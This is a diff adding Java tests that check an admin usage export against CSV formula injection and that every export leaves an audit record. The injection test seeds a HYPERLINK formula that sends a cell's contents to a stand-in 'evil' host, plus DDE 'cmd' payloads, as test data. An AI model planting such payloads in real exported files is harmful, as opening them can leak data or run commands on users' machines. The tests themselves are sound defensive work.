@@ -305,6 +305,92 @@ class PlatformUsageTest {
     }
 
     @Test
+    void noCellOfACsvExportStartsAFormula() throws IOException {
+        String hyperlink = "=HYPERLINK(\"https://evil/?d=\"&A2,\"Open invoice\")";
+        List<String> names = List.of(hyperlink, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0");
+        List<ObjectNode> records = new ArrayList<>();
+        for (int i = 0; i < names.size(); i++) {
+            records.add(record("f" + i, "2026-06-01T10:00:00Z", uuid(1, 10 + i), uuid(2, 10 + i), "1." + i, 1)
+                    .put("tenant_name", names.get(i)).put("user_email", "=cmd" + i + "@example.com"));
+        }
+        records.add(record("f-tab", "2026-06-01T10:00:00Z", uuid(1, 20), null, "2", 1).put("tenant_name", "tab"));
+        records.add(record("f-cr", "2026-06-01T10:00:00Z", uuid(1, 21), null, "3", 1).put("tenant_name", "cr"));
+        ingest(records);
+        // The API refuses control characters in names; the export neutralises whatever is stored all the same.
+        com.engarde.signupsync.testing.TestDatabase.get().execute("UPDATE platform_tenants SET name = E'\\t=1+1'"
+                + " WHERE id = '" + uuid(1, 20) + "'");
+        com.engarde.signupsync.testing.TestDatabase.get().execute("UPDATE platform_tenants SET name = E'\\r=1+1'"
+                + " WHERE id = '" + uuid(1, 21) + "'");
+        rollUp();
+        Map<String, String> expected = new HashMap<>();
+        for (String name : names) {
+            expected.put(name, "'" + name);
+        }
+        expected.put("\t=1+1", "'\t=1+1");
+        expected.put("\r=1+1", "'\r=1+1");
+
+        int checked = 0;
+        for (String mode : List.of("daily", "realtime")) {
+            for (String rows : List.of("users", "tenants")) {
+                Map<String, String> params = new HashMap<>(Map.of("format", "csv", "view_mode", mode, "rows", rows));
+                if (mode.equals("daily")) {
+                    params.put("date_from", "2026-06-01");
+                    params.put("date_to", "2026-06-01");
+                }
+                Response csv = admin("/api/admin/platform/usage/export", params);
+                assertThat(csv.status()).as(csv.body()).isEqualTo(200);
+                List<CSVRecord> parsed = parse(csv.body());
+                assertThat(parsed).as(mode + " " + rows).hasSize(6);
+                for (CSVRecord row : parsed) {
+                    String original = expected.entrySet().stream().filter(e -> e.getValue().equals(row.get("tenant_name")))
+                            .map(Map.Entry::getKey).findFirst().orElse(null);
+                    assertThat(original).as(mode + " " + rows + ": " + row.get("tenant_name")).isNotNull();
+                    if (rows.equals("users") && !row.get("email").isEmpty()) {
+                        assertThat(row.get("email")).startsWith("'=cmd");
+                    }
+                    for (String cell : row.values()) {
+                        assertThat(cell).as(mode + " " + rows).doesNotStartWith("=").doesNotStartWith("+")
+                                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+                    }
+                    checked++;
+                }
+            }
+        }
+        assertThat(checked).isEqualTo(24);
+    }
+
+    @Test
+    void everyExportLeavesAnAuditRowSayingWhoWhatRangeAndRows() {
+        aroundTheMonthEnd();
+
+        Response csv = admin("/api/admin/platform/usage/export", Map.of("format", "csv", "view_mode", "daily",
+                "date_from", "2026-05-01", "date_to", "2026-06-30", "rows", "tenants"));
+        Response json = admin("/api/admin/platform/usage/export", Map.of("format", "json", "view_mode", "realtime"));
+        Response bad = admin("/api/admin/platform/usage/export", Map.of("format", "xls"));
+
+        assertThat(csv.status()).isEqualTo(200);
+        assertThat(json.status()).isEqualTo(200);
+        assertThat(bad.status()).isEqualTo(400);
+        assertThat(Rows.count("platform_admin_actions")).as("a refused export exports nothing").isEqualTo(2);
+        Map<String, Object> first = Rows.row("SELECT actor_email, action, target_type, target_id, summary::text AS s"
+                + " FROM platform_admin_actions ORDER BY id LIMIT 1");
+        assertThat(first).containsEntry("actor_email", "root@example.com").containsEntry("action", "usage.export")
+                .containsEntry("target_type", "usage_export").containsEntry("target_id", "tenants");
+        assertThat(Rows.row("SELECT summary->>'format' AS format, summary->>'view_mode' AS mode,"
+                + " summary->>'date_from' AS date_from, summary->>'date_to' AS date_to, summary->>'rows' AS rows,"
+                + " summary->>'offset' AS offset, summary->>'complete' AS complete"
+                + " FROM platform_admin_actions ORDER BY id LIMIT 1"))
+                .containsEntry("format", "csv").containsEntry("mode", "daily").containsEntry("date_from", "2026-05-01")
+                .containsEntry("date_to", "2026-06-30").containsEntry("rows", csv.headers().get("X-Export-Rows"))
+                .containsEntry("offset", "0").containsEntry("complete", "true");
+        assertThat(Rows.row("SELECT summary->>'format' AS format, summary->>'view_mode' AS mode,"
+                + " summary->>'since' IS NOT NULL AS since, summary->>'rows' AS rows"
+                + " FROM platform_admin_actions ORDER BY id DESC LIMIT 1"))
+                .containsEntry("format", "json").containsEntry("mode", "realtime").containsEntry("since", true)
+                .containsEntry("rows", String.valueOf(json.json().size()));
+    }
+
+    @Test
     void everyRowOfTheDailyAndMonthlyViewsEqualsItsRawRecordsToTheCent() {
         aroundTheMonthEnd();
         int checked = 0;
